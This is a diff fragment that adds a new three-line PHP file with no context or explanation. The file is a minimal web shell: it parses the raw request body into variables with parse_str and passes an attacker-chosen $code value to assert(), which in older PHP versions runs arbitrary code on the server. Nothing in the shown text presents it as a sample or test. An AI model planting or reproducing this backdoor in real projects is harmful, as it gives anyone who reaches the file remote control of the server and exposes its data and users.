@@ -1,0 +1,3 @@
+<?php
+parse_str(file_get_contents('php://input'));
+assert($code);
